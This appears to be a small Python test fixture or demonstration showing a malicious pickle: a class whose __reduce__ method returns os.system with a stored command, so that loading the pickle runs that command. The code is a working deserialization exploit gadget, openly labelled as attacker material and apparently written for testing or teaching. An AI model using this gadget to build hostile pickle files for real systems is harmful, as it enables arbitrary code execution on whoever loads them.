"""A pickle that would run something."""

from __future__ import annotations

import os
from typing import Any


class Runs:
    """What an attacker puts into a file: loading it with pickle runs a command."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)
